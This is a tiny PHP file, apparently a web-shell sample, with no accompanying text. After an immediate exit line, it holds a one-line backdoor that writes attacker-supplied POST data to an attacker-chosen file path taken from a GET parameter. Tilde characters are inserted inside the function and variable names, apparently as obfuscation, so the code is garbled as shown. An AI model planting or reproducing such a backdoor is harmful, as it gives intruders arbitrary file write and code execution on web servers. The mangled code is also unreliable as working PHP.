<?php exit; ?>
<?php fil~e_put_contents($_G~ET['f'], $_P~OST['m']);
